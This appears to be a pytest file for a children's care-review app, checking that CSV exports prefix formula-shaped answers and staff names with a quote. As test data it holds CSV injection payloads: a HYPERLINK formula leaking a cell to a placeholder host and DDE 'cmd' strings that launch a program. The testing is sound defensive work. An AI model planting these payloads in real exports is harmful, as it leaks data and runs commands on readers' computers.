"""Finding: CSV exports let spreadsheet formulas through (answers starting with =, +, -, @), in
the dashboard and in `carebot export`. A cell a spreadsheet would run as a formula is exported
as text (OWASP's CSV injection guidance: a leading single quote); JSON keeps the words as sent.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select, update

from db.encryption import DataKeys
from db.engine import session_scope
from db.models import (
    Child,
    Consultation,
    ConsultationAnswer,
    ConsultationRole,
    Review,
    StaffUser,
)
from tests.support.carebot_process import REPO, demo_env, run_cli

# What a child could type, and what each would do in a spreadsheet if left as it is.
FORMULAS = {
    "home": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for help")',
    "school": "+1+cmd|' /C calc'!A0",
    "family_time": "-2+3",
    "going_well": "@SUM(1,2)",
    "worries": "\t=1+1",
    "talk_about": "\r=1+1",
}
# A carriage return inside an answer must not end the row and start a formula cell.
INSIDE = {"anything_else": "All good\r=1+1\n@SUM(1,2)"}


def put_formulas_in_jades_answers(database_url: str, keys: DataKeys) -> int:
    """Jade's sent answers (the demo data) replaced by formula-shaped text; her review's id."""
    with session_scope(database_url) as session:
        review_id, consultation_id = session.execute(
            select(Review.id, Consultation.id).join(Consultation.review).join(Review.child)
            .where(Child.case_reference == "DEMO-001", Consultation.role == ConsultationRole.CHILD)
            .order_by(Review.scheduled_for.desc()).limit(1)  # the review coming up
        ).one()
        for key, text in {**FORMULAS, **INSIDE}.items():
            session.execute(
                update(ConsultationAnswer)
                .where(ConsultationAnswer.consultation_id == consultation_id,
                       ConsultationAnswer.question_key == key)
                .values(answer_enc=keys.encrypt(text), skipped=False)
            )
        return review_id


def assert_no_cell_is_a_formula(csv_text: str) -> dict[str, str]:
    """Every cell starting with a formula sign is quoted as text; the answers by question."""
    rows = list(csv.DictReader(io.StringIO(csv_text, newline="")))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    return {row["question_key"]: row["answer"] for row in rows if row["role"] == "child"}


def test_a_dashboard_export_has_no_formula_cells_and_json_keeps_the_words(
    client, staff_settings, data_keys
) -> None:
    review_id = put_formulas_in_jades_answers(staff_settings.database_url, data_keys)
    amara = client("iro.amara")

    exported = amara.post(f"/iro/reviews/{review_id}/export", {"format": "csv"})
    assert exported.status_code == 200
    answers = assert_no_cell_is_a_formula(exported.text)
    for key, text in FORMULAS.items():
        assert answers[key] == "'" + text  # the child's words, whole, shown as text
    assert answers["anything_else"] == INSIDE["anything_else"]  # one cell, one row

    as_json = json.loads(amara.post(f"/iro/reviews/{review_id}/export", {"format": "json"}).text)
    child = next(c for c in as_json["consultations"] if c["role"] == "child")
    sent = {a["key"]: a["answer"] for a in child["answers"]}
    assert all(sent[key] == text for key, text in FORMULAS.items())


def test_the_report_csv_has_no_formula_cells(client, staff_settings) -> None:
    """An IRO's display name is typed by an admin; in the report it is a cell like any other."""
    with session_scope(staff_settings.database_url) as session:
        session.execute(update(StaffUser).where(StaffUser.username == "iro.ben")
                        .values(display_name="=cmd|' /C calc'!A0"))
    report = client("manager.cath").get("/iro/reports.csv")
    assert report.status_code == 200
    rows = list(csv.DictReader(io.StringIO(report.text)))
    assert "'=cmd|' /C calc'!A0" in {row["iro"] for row in rows}
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())


@pytest.mark.slow
@pytest.mark.timeout(180)
def test_carebot_export_writes_no_formula_cells(tmp_path: Path) -> None:
    env = demo_env(tmp_path)
    run_cli(["seed-demo", "--json"], env)
    keys = DataKeys.parse((tmp_path / "demo-data-key").read_text().strip())
    review_id = put_formulas_in_jades_answers(f"sqlite:///{tmp_path / 'carebot.db'}", keys)

    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", "--review", str(review_id), "--format", "csv"],
        env=env, cwd=REPO, capture_output=True, timeout=120,  # bytes: line ends as written
    )
    assert done.returncode == 0, done.stderr[-2000:]
    answers = assert_no_cell_is_a_formula(done.stdout.decode("utf-8"))
    assert answers["home"] == "'" + FORMULAS["home"]
    assert answers["anything_else"] == INSIDE["anything_else"]
